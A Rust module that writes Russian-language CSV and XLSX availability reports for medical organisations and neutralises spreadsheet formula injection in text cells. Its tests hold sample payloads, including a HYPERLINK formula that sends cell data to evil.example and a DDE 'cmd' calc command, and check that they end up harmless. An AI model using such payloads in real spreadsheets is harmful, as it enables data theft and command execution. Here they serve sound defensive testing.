//! CSV and XLSX files with Russian headers.
//!
//! CSV is written for Russian Excel: UTF-8 with a byte-order mark, `;` between fields, decimal
//! comma. XLSX keeps numbers as numbers. Counts are whole numbers (`10`, never `10,0`);
//! measures show the table's decimals.
//!
//! Every text cell (names come from agents: site, hostname, target) is neutralised against
//! formula injection by the OWASP rule: text starting with `=`, `+`, `-`, `@`, a tab or a CR gets
//! a leading `'`, so a spreadsheet shows it as text and never evaluates it. Numbers stay numbers
//! (a negative number is written as a number, not as text).

use crate::availability::indicators::{Avail, CountRow, MoReach, Unit};
use crate::availability::offhours::{HostOff, OffSum};
use crate::availability::{Availability, Counts, IndicatorTable, OffHours};
use rust_xlsxwriter::{Format as XFormat, Workbook, XlsxError};

/// A cell of an exported table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    /// A measure, shown with the table's decimals.
    Num(f64),
    /// A count, shown without decimals.
    Int(i64),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::Text(s.to_string())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::Text(s)
    }
}

impl From<Option<f64>> for Cell {
    fn from(v: Option<f64>) -> Cell {
        v.filter(|v| v.is_finite()).map_or(Cell::Empty, Cell::Num)
    }
}

impl From<u64> for Cell {
    fn from(v: u64) -> Cell {
        Cell::Int(i64::try_from(v).unwrap_or(i64::MAX))
    }
}

impl Cell {
    /// A count held as `f64` (the indicator table's plan and fact of a count row).
    fn count(v: Option<f64>) -> Cell {
        v.filter(|v| v.is_finite())
            .map_or(Cell::Empty, |v| Cell::Int(v.round() as i64))
    }
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `s` as a spreadsheet shows it as text: a leading `'` when it could start a formula.
fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(FORMULA_START) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// A titled table.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    pub sheet: String,
    /// Lines above the header (XLSX only).
    pub title: Vec<String>,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
    /// Lines below the table (XLSX only).
    pub notes: Vec<String>,
    /// Decimals shown for numbers.
    pub decimals: usize,
}

impl Table {
    /// CSV for Russian Excel: a byte-order mark, `;`, CRLF, quotes only where needed.
    pub fn to_csv(&self) -> Vec<u8> {
        let mut w = csv::WriterBuilder::new()
            .delimiter(b';')
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            // Rows are written as they are (a note row may be shorter than the header).
            .flexible(true)
            .from_writer("\u{feff}".as_bytes().to_vec());
        // With flexible records the only error is I/O, and writing to a Vec cannot fail.
        let mut write = |fields: Vec<String>| {
            w.write_record(&fields)
                .unwrap_or_else(|e| unreachable!("CSV into memory: {e}"));
        };
        write(
            self.headers
                .iter()
                .map(|h| neutralise(h).into_owned())
                .collect(),
        );
        for r in &self.rows {
            write(
                r.iter()
                    .map(|c| match c {
                        Cell::Text(s) => neutralise(s).into_owned(),
                        Cell::Num(v) => format!("{:.*}", self.decimals, v).replace('.', ","),
                        Cell::Int(v) => v.to_string(),
                        Cell::Empty => String::new(),
                    })
                    .collect(),
            );
        }
        w.into_inner()
            .unwrap_or_else(|e| unreachable!("CSV into memory: {e}"))
    }

    /// An XLSX workbook with one sheet.
    pub fn to_xlsx(&self) -> Result<Vec<u8>, XlsxError> {
        workbook(std::slice::from_ref(self))
    }

    fn add_to(&self, wb: &mut Workbook) -> Result<(), XlsxError> {
        let bold = XFormat::new().set_bold();
        let head = XFormat::new()
            .set_bold()
            .set_text_wrap()
            .set_border(rust_xlsxwriter::FormatBorder::Thin);
        let text = XFormat::new()
            .set_text_wrap()
            .set_border(rust_xlsxwriter::FormatBorder::Thin);
        let num_fmt = if self.decimals == 0 {
            "0".to_string()
        } else {
            format!("0.{}", "0".repeat(self.decimals))
        };
        let num = XFormat::new()
            .set_num_format(num_fmt)
            .set_border(rust_xlsxwriter::FormatBorder::Thin);
        let int = XFormat::new()
            .set_num_format("0")
            .set_border(rust_xlsxwriter::FormatBorder::Thin);
        let ws = wb.add_worksheet();
        ws.set_name(&self.sheet)?;
        let mut row: u32 = 0;
        for (i, t) in self.title.iter().enumerate() {
            if i == 0 {
                ws.write_string_with_format(row, 0, neutralise(t), &bold)?;
            } else {
                ws.write_string(row, 0, neutralise(t))?;
            }
            row += 1;
        }
        if !self.title.is_empty() {
            row += 1;
        }
        for (c, h) in self.headers.iter().enumerate() {
            ws.write_string_with_format(row, c as u16, neutralise(h), &head)?;
            let width = if c == 0 { 60.0 } else { 16.0 };
            ws.set_column_width(c as u16, width)?;
        }
        row += 1;
        for r in &self.rows {
            for (c, cell) in r.iter().enumerate() {
                match cell {
                    Cell::Text(s) => {
                        ws.write_string_with_format(row, c as u16, neutralise(s), &text)?
                    }
                    Cell::Num(v) => ws.write_number_with_format(row, c as u16, *v, &num)?,
                    Cell::Int(v) => ws.write_number_with_format(row, c as u16, *v as f64, &int)?,
                    Cell::Empty => ws.write_blank(row, c as u16, &text)?,
                };
            }
            row += 1;
        }
        row += 1;
        for n in &self.notes {
            ws.write_string(row, 0, neutralise(n))?;
            row += 1;
        }
        Ok(())
    }
}

/// An XLSX workbook with a sheet per table, in order.
pub fn workbook(tables: &[Table]) -> Result<Vec<u8>, XlsxError> {
    let mut wb = Workbook::new();
    for t in tables {
        t.add_to(&mut wb)?;
    }
    wb.save_to_buffer()
}

fn ru_time(ms: i64, tz: chrono_tz::Tz) -> String {
    use chrono::TimeZone;
    tz.timestamp_millis_opt(ms)
        .single()
        .map_or_else(String::new, |d| d.format("%d.%m.%Y %H:%M").to_string())
}

/// The indicator table: «Показатель; Ед. изм.; План; Факт; % выполнения; Расчёт».
pub fn indicators_table(t: &IndicatorTable) -> Table {
    Table {
        sheet: "Показатели".into(),
        title: vec![
            format!(
                "Показатели регионального проекта за период: {}",
                t.period.label
            ),
            "Источник: dozor (данные агентов на АРМ и серверах МО)".into(),
        ],
        headers: [
            "Показатель",
            "Ед. изм.",
            "План",
            "Факт",
            "% выполнения плана",
            "Расчёт",
        ]
        .map(String::from)
        .to_vec(),
        rows: t
            .rows
            .iter()
            .map(|r| {
                let (plan, fact) = match r.unit {
                    Unit::Count => (Cell::count(r.plan), Cell::count(r.fact)),
                    Unit::Percent => (r.plan.into(), r.fact.into()),
                };
                vec![
                    r.name.as_str().into(),
                    r.unit.ru().into(),
                    plan,
                    fact,
                    r.pct_of_plan.into(),
                    r.basis.as_str().into(),
                ]
            })
            .collect(),
        notes: t.notes.clone(),
        decimals: 1,
    }
}

/// The indicator workbook: the table, the same facts per МО («По МО»), then the resources and
/// each МО's channel to them («Каналы МО»).
pub fn indicators_workbook(t: &IndicatorTable) -> Vec<Table> {
    vec![
        indicators_table(t),
        indicators_by_mo_table(t),
        channels_table(t),
    ]
}

/// The indicator table's facts per МО: plan vs fact of АРМ with the shortfall, МИС, sites,
/// subsystems, servers.
pub fn indicators_by_mo_table(t: &IndicatorTable) -> Table {
    let mut rows: Vec<Vec<Cell>> = t
        .mos
        .iter()
        .map(|m| {
            vec![
                m.mo.as_str().into(),
                m.mo_name.as_str().into(),
                m.planned_arm.map_or(Cell::Empty, Cell::from),
                m.arm_active.into(),
                m.arm_pct_of_plan.into(),
                m.arm_shortfall.into(),
                if m.uses_mis { "да" } else { "нет" }.into(),
                Cell::Int(m.mis_days),
                Cell::Int(m.working_days),
                m.sites_mis.into(),
                m.sites_total.into(),
                if m.subsystems_missing.is_empty() {
                    Cell::Empty
                } else {
                    m.subsystems_missing.join(", ").into()
                },
                m.servers_availability_pct.into(),
            ]
        })
        .collect();
    let planned: Option<u64> = t.mos.iter().map(|m| m.planned_arm).sum();
    let active: u64 = t.mos.iter().map(|m| m.arm_active).sum();
    rows.push(vec![
        "".into(),
        "Итого по региону".into(),
        planned.map_or(Cell::Empty, Cell::from),
        active.into(),
        planned
            .and_then(|p| crate::availability::pct(active as f64, p as f64))
            .into(),
        t.mos.iter().map(|m| m.arm_shortfall).sum::<u64>().into(),
        format!(
            "{} из {}",
            t.mos.iter().filter(|m| m.uses_mis).count(),
            t.mos.len()
        )
        .into(),
        Cell::Empty,
        Cell::Empty,
        t.mos.iter().map(|m| m.sites_mis).sum::<u64>().into(),
        t.mos.iter().map(|m| m.sites_total).sum::<u64>().into(),
        Cell::Empty,
        Cell::Empty,
    ]);
    Table {
        sheet: "По МО".into(),
        title: vec![format!(
            "Показатели по медицинским организациям за период: {}",
            t.period.label
        )],
        headers: [
            "ОИД МО",
            "МО",
            "План АРМ",
            "АРМ передавали данные",
            "% плана АРМ",
            "Не хватает АРМ до плана",
            "Использует МИС",
            "Дней с обращениями АРМ к МИС",
            "Рабочих дней",
            "Подразделений с АРМ, подключенными к МИС",
            "Подразделений всего",
            "Не подключены подсистемы",
            "Доступность серверов, %",
        ]
        .map(String::from)
        .to_vec(),
        rows,
        notes: vec![
            "«Не хватает АРМ до плана» считается по каждой МО; итог — сумма по МО, поэтому \
             избыток АРМ в одной МО не скрывает нехватку в другой."
                .into(),
        ],
        decimals: 1,
    }
}

fn count_cells(c: &CountRow) -> Vec<Cell> {
    vec![
        c.planned_arm.into(),
        c.workstations_registered.into(),
        c.workstations_active.into(),
        c.arm_pct_of_plan().into(),
        c.arm_shortfall.into(),
        c.workstations_reaching_mis.into(),
        c.servers_registered.into(),
        c.servers_active.into(),
    ]
}

/// Rows of a table per МО and site: each МО (OID, name, no site) with its cells, its sites
/// under it, then the region's total.
fn mo_site_rows<M, S>(
    mos: &[M],
    mo: impl Fn(&M) -> (&String, &String, &Vec<S>, Vec<Cell>),
    site: impl Fn(&S) -> (&String, Vec<Cell>),
    total: Vec<Cell>,
) -> Vec<Vec<Cell>> {
    let mut rows = Vec::new();
    for m in mos {
        let (oid, name, sites, cells) = mo(m);
        let mut r: Vec<Cell> = vec![oid.as_str().into(), name.as_str().into(), "".into()];
        r.extend(cells);
        rows.push(r);
        for s in sites {
            let (site_name, cells) = site(s);
            let mut r: Vec<Cell> = vec![
                oid.as_str().into(),
                name.as_str().into(),
                site_name.as_str().into(),
            ];
            r.extend(cells);
            rows.push(r);
        }
    }
    let mut last: Vec<Cell> = vec!["".into(), "Итого по региону".into(), "".into()];
    last.extend(total);
    rows.push(last);
    rows
}

/// Counts per МО and site.
pub fn counts_table(c: &Counts, tz: chrono_tz::Tz) -> Table {
    let rows = mo_site_rows(
        &c.mos,
        |m| (&m.mo, &m.mo_name, &m.sites, count_cells(&m.counts)),
        |s| (&s.site, count_cells(&s.counts)),
        count_cells(&c.total),
    );
    Table {
        sheet: "АРМ".into(),
        title: vec![format!(
            "Количество АРМ и серверов с {} по {}",
            ru_time(c.from_ms, tz),
            ru_time(c.to_ms, tz)
        )],
        headers: [
            "ОИД МО",
            "МО",
            "Подразделение",
            "План АРМ",
            "АРМ зарегистрировано",
            "АРМ передавали данные",
            "% плана АРМ",
            "Не хватает АРМ до плана",
            "АРМ обращались к МИС",
            "Серверов зарегистрировано",
            "Серверов передавали данные",
        ]
        .map(String::from)
        .to_vec(),
        rows,
        notes: vec![
            "«Не хватает АРМ до плана» считается по каждой МО и подразделению; итог по региону — \
             сумма по МО, поэтому избыток АРМ в одной МО не скрывает нехватку в другой."
                .into(),
        ],
        decimals: 1,
    }
}

fn hours(ms: i64) -> Cell {
    Cell::Num(ms as f64 / 3_600_000.0)
}

/// An МО's reachability of a resource and its channel to it.
fn channel_cells(m: &MoReach) -> Vec<Cell> {
    vec![
        hours(m.reach_ms),
        hours(m.unreach_ms),
        m.reachability_pct.into(),
        hours(m.channel_ok_ms),
        hours(m.channel_fail_ms),
        m.channel_quality_pct.into(),
    ]
}

/// The indicator workbook's «Каналы МО»: for each central resource, its own availability, and
/// each МО's reachability of it and the quality of its channel to it.
pub fn channels_table(t: &IndicatorTable) -> Table {
    let mut rows = Vec::new();
    for r in &t.resources {
        rows.push(vec![
            r.title.into(),
            "".into(),
            "Регион".into(),
            r.resource_availability_pct.into(),
            hours(r.reach_from_mos_ms),
            hours(r.unreach_from_mos_ms),
            r.reachability_from_mos_pct.into(),
            Cell::Empty,
            Cell::Empty,
            Cell::Empty,
        ]);
        for m in &r.mos {
            let mut row: Vec<Cell> = vec![
                r.title.into(),
                m.mo.as_str().into(),
                m.mo_name.as_str().into(),
                Cell::Empty,
            ];
            row.extend(channel_cells(m));
            rows.push(row);
        }
    }
    Table {
        sheet: "Каналы МО".into(),
        title: vec![format!(
            "Работоспособность ресурсов и каналы МО к ним за период: {}",
            t.period.label
        )],
        headers: [
            "Ресурс",
            "ОИД МО",
            "МО",
            "Работоспособность ресурса, %",
            "Доступен из МО, ч",
            "Недоступен из МО, ч",
            "Доступность из МО, %",
            "Канал МО исправен, ч",
            "Канал МО не работал при работающем ресурсе, ч",
            "Качество канала МО, %",
        ]
        .map(String::from)
        .to_vec(),
        rows,
        notes: vec![
            "Работоспособность ресурса считается по всем МО: ресурс работал, пока его достигала \
             хотя бы одна МО. Время, когда ресурс не работал для всех, не ставится в вину \
             каналу МО."
                .into(),
        ],
        decimals: 1,
    }
}

fn avail_cells(a: &Avail) -> Vec<Cell> {
    vec![
        hours(a.up_ms),
        hours(a.down_ms),
        hours(a.planned_ms),
        hours(a.unknown_ms),
        a.availability_pct.into(),
    ]
}

/// The availability report.
pub fn availability_table(a: &Availability, tz: chrono_tz::Tz) -> Table {
    let (from, to, headers, rows): (i64, i64, Vec<&str>, Vec<Vec<Cell>>) = match a {
        Availability::Host {
            from_ms,
            to_ms,
            rows,
        } => (
            *from_ms,
            *to_ms,
            vec![
                "ОИД МО",
                "Хост",
                "Имя",
                "Роль",
                "Подразделение",
                "Работал, ч",
                "Простой, ч",
                "Плановые работы, ч",
                "Нет данных, ч",
                "Доступность, %",
                "Выключен в рабочее время, ч",
                "Дней выключения в рабочее время",
            ],
            rows.iter()
                .map(|r| {
                    let role = match r.role {
                        Some(dozor_proto::Role::Server) => "сервер",
                        Some(dozor_proto::Role::Workstation) => "АРМ",
                        None => "",
                    };
                    let mut v: Vec<Cell> = vec![
                        r.mo.as_str().into(),
                        r.host.as_str().into(),
                        r.hostname.as_str().into(),
                        role.into(),
                        r.site.as_str().into(),
                    ];
                    v.extend(avail_cells(&r.avail));
                    v.push(r.off_w_ms.map_or(Cell::Empty, hours));
                    v.push(r.off_days.map_or(Cell::Empty, Cell::Int));
                    v
                })
                .collect(),
        ),
        Availability::Mo {
            from_ms,
            to_ms,
            rows,
        } => (
            *from_ms,
            *to_ms,
            vec![
                "ОИД МО",
                "МО",
                "АРМ: работали, ч",
                "АРМ: простой, ч",
                "АРМ: плановые работы, ч",
                "АРМ: нет данных, ч",
                "АРМ: доступность, %",
                "АРМ: выключены в рабочее время, ч",
                "АРМ: дней выключения в рабочее время",
                "Серверы: работали, ч",
                "Серверы: простой, ч",
                "Серверы: плановые работы, ч",
                "Серверы: нет данных, ч",
                "Серверы: доступность, %",
            ],
            rows.iter()
                .map(|r| {
                    let mut v: Vec<Cell> = vec![r.mo.as_str().into(), r.mo_name.as_str().into()];
                    v.extend(avail_cells(&r.workstations));
                    v.push(hours(r.workstations_off_w_ms));
                    v.push(Cell::Int(r.workstations_off_days));
                    v.extend(avail_cells(&r.servers));
                    v
                })
                .collect(),
        ),
        Availability::Target {
            from_ms,
            to_ms,
            rows,
        } => (
            *from_ms,
            *to_ms,
            vec![
                "Ресурс",
                "ОИД МО",
                "МО",
                "Ресурс работал, ч",
                "Ресурс не работал, ч",
                "Ресурс: не определено, ч",
                "Работоспособность ресурса, %",
                "Доступен из МО, ч",
                "Недоступен из МО, ч",
                "Доступность из МО, %",
                "Канал МО исправен, ч",
                "Канал МО не работал при работающем ресурсе, ч",
                "Качество канала МО, %",
                "Плановые работы, ч",
            ],
            rows.iter()
                .flat_map(|t| {
                    let mut v = vec![vec![
                        t.title.into(),
                        "".into(),
                        "Регион".into(),
                        hours(t.resource_up_ms),
                        hours(t.resource_down_ms),
                        hours(t.resource_unknown_ms),
                        t.resource_availability_pct.into(),
                        hours(t.reach_from_mos_ms),
                        hours(t.unreach_from_mos_ms),
                        t.reachability_from_mos_pct.into(),
                        Cell::Empty,
                        Cell::Empty,
                        Cell::Empty,
                        hours(t.planned_ms),
                    ]];
                    v.extend(t.mos.iter().map(|m| {
                        let mut row = vec![
                            t.title.into(),
                            m.mo.as_str().into(),
                            m.mo_name.as_str().into(),
                            Cell::Empty,
                            Cell::Empty,
                            Cell::Empty,
                            Cell::Empty,
                        ];
                        row.extend(channel_cells(m));
                        row.push(hours(m.planned_ms));
                        row
                    }));
                    v
                })
                .collect(),
        ),
    };
    Table {
        sheet: "Доступность".into(),
        title: vec![format!(
            "Доступность с {} по {}",
            ru_time(from, tz),
            ru_time(to, tz)
        )],
        headers: headers.into_iter().map(String::from).collect(),
        rows,
        notes: vec![
            "«Выключен в рабочее время»: АРМ штатно выключен в рабочие часы своей МО — с момента \
             выключения до конца того рабочего дня; это не простой и не работа. Для серверов не \
             считается: выключенный сервер — простой."
                .into(),
        ],
        decimals: 2,
    }
}

fn off_host_row(h: &HostOff) -> Vec<Cell> {
    vec![
        h.mo.as_str().into(),
        h.mo_name.as_str().into(),
        h.site.as_str().into(),
        h.hostname.as_str().into(),
        h.host.as_str().into(),
        hours(h.off_w_ms),
        Cell::Int(h.off_days),
        hours(h.up_w_ms),
    ]
}

const OFF_HOST_HEADERS: [&str; 8] = [
    "ОИД МО",
    "МО",
    "Подразделение",
    "Имя",
    "Хост",
    "Выключен в рабочее время, ч",
    "Дней, когда выключали в рабочее время",
    "Работал в рабочее время, ч",
];

fn off_sum_cells(s: &OffSum) -> Vec<Cell> {
    vec![
        s.hosts.into(),
        s.hosts_off.into(),
        hours(s.off_w_ms),
        Cell::Int(s.off_days),
    ]
}

/// «АРМ, чаще всего выключенные в рабочее время»: the region's top (the CSV), sums per МО and
/// site, and each МО's top.
pub fn offhours_tables(o: &OffHours, tz: chrono_tz::Tz) -> Vec<Table> {
    let when = format!("с {} по {}", ru_time(o.from_ms, tz), ru_time(o.to_ms, tz));
    let note = "Считается время от штатного выключения АРМ в рабочие часы его МО до конца того \
                рабочего дня (утро до включения не считается); серверы не входят: выключенный \
                сервер — простой."
        .to_string();
    let top = Table {
        sheet: "Чаще всего выключены".into(),
        title: vec![format!(
            "АРМ, чаще всего выключенные в рабочее время (первые {}), {when}",
            o.top_n
        )],
        headers: OFF_HOST_HEADERS.map(String::from).to_vec(),
        rows: o.top.iter().map(off_host_row).collect(),
        notes: vec![note.clone()],
        decimals: 1,
    };
    let rows = mo_site_rows(
        &o.mos,
        |m| (&m.mo, &m.mo_name, &m.sites, off_sum_cells(&m.sum)),
        |s| (&s.site, off_sum_cells(&s.sum)),
        off_sum_cells(&o.region),
    );
    let sums = Table {
        sheet: "По МО и подразделениям".into(),
        title: vec![format!("АРМ, выключенные в рабочее время, {when}")],
        headers: [
            "ОИД МО",
            "МО",
            "Подразделение",
            "АРМ",
            "АРМ выключали в рабочее время",
            "Выключены в рабочее время, ч",
            "АРМ-дней выключения",
        ]
        .map(String::from)
        .to_vec(),
        rows,
        notes: vec![note.clone()],
        decimals: 1,
    };
    let per_mo = Table {
        sheet: "Первые по каждой МО".into(),
        title: vec![format!(
            "АРМ, чаще всего выключенные в рабочее время, по МО (первые {}), {when}",
            o.top_n
        )],
        headers: OFF_HOST_HEADERS.map(String::from).to_vec(),
        rows: o
            .mos
            .iter()
            .flat_map(|m| m.top.iter().map(off_host_row))
            .collect(),
        notes: vec![note],
        decimals: 1,
    };
    vec![top, sums, per_mo]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_is_for_russian_excel() {
        let t = Table {
            sheet: "s".into(),
            title: Vec::new(),
            headers: vec!["МО".into(), "Доля; %".into(), "Хосты".into()],
            rows: vec![
                vec!["ГП «№ 1»".into(), Cell::Num(99.456), Cell::Empty],
                vec!["say \"hi\"\nthere".into(), Cell::Num(3.0), 5u64.into()],
            ],
            notes: Vec::new(),
            decimals: 2,
        };
        let csv = String::from_utf8(t.to_csv()).unwrap();
        assert_eq!(
            csv,
            "\u{feff}МО;\"Доля; %\";Хосты\r\nГП «№ 1»;99,46;\r\n\"say \"\"hi\"\"\nthere\";3,00;5\r\n"
        );
    }

    /// Hostile names as issue 10 found them (an agent's `--site`, hostname, target).
    const HOSTILE: [&str; 8] = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "ФАП «Сосновка»",
    ];

    fn hostile_table() -> Table {
        Table {
            sheet: "s".into(),
            title: vec!["=title".into()],
            headers: vec!["=МО".into(), "Доля".into()],
            rows: HOSTILE
                .iter()
                .map(|h| vec![Cell::from(*h), Cell::Num(-12.5)])
                .collect(),
            notes: vec!["-note".into()],
            decimals: 2,
        }
    }

    fn dangerous(s: &str) -> bool {
        s.starts_with(FORMULA_START)
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let bytes = hostile_table().to_csv();
        let mut r = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .flexible(true)
            .from_reader(&bytes[3..]);
        let mut texts = Vec::new();
        for rec in r.records() {
            let rec = rec.unwrap();
            for (i, f) in rec.iter().enumerate() {
                if i == 1 && f != "Доля" {
                    // The number column: negative numbers are numbers, written as such.
                    assert_eq!(f, "-12,50");
                    continue;
                }
                assert!(!dangerous(f), "CSV cell {f:?}");
                texts.push(f.to_string());
            }
        }
        // Nothing lost: the name is there after the quote.
        assert!(
            texts.contains(&"'=cmd|' /C calc'!A0".to_string()),
            "{texts:?}"
        );
        assert!(texts.contains(&"ФАП «Сосновка»".to_string()), "{texts:?}");
        assert_eq!(texts.len(), HOSTILE.len() + 2);
    }

    #[test]
    fn xlsx_cells_never_start_a_formula() {
        use calamine::{Data, Reader as _, Xlsx};
        let bytes = hostile_table().to_xlsx().unwrap();
        let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let range = wb.worksheet_range("s").unwrap();
        let (mut texts, mut nums) = (0, 0);
        for row in range.rows() {
            for cell in row {
                match cell {
                    Data::String(s) => {
                        assert!(!dangerous(s), "XLSX cell {s:?}");
                        texts += 1;
                    }
                    Data::Float(v) => {
                        assert_eq!(*v, -12.5);
                        nums += 1;
                    }
                    Data::Empty => {}
                    other => panic!("unexpected cell {other:?}"),
                }
            }
        }
        // Title, two headers, the names, the note; one number per row, kept numeric.
        assert_eq!(texts, 1 + 2 + HOSTILE.len() + 1);
        assert_eq!(nums, HOSTILE.len());
        // And the workbook holds no formula at all.
        let formulas = wb.worksheet_formula("s").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
    }
}
